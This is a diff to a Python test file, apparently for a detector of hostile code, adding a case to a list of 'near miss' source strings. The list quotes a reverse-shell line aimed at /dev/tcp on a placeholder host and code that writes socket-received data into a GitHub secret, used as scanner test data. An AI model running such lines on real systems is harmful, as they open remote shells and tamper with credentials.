@@ -71,6 +71,7 @@ def test_what_a_command_prints_is_sent(trigger: str, severity: str) -> None:
         "os.system('openssl s_client -connect example.invalid:443')",
         "subprocess.run(requests.get('https://example.invalid').headers['x'])",
         "print('bash -i >& /dev/tcp/example.invalid/4444')",
+        CONNECTED + "subprocess.run(['gh', 'secret', 'set', 'x', s.recv(99)])",
     ],
 )
 def test_near_misses(source: str) -> None:
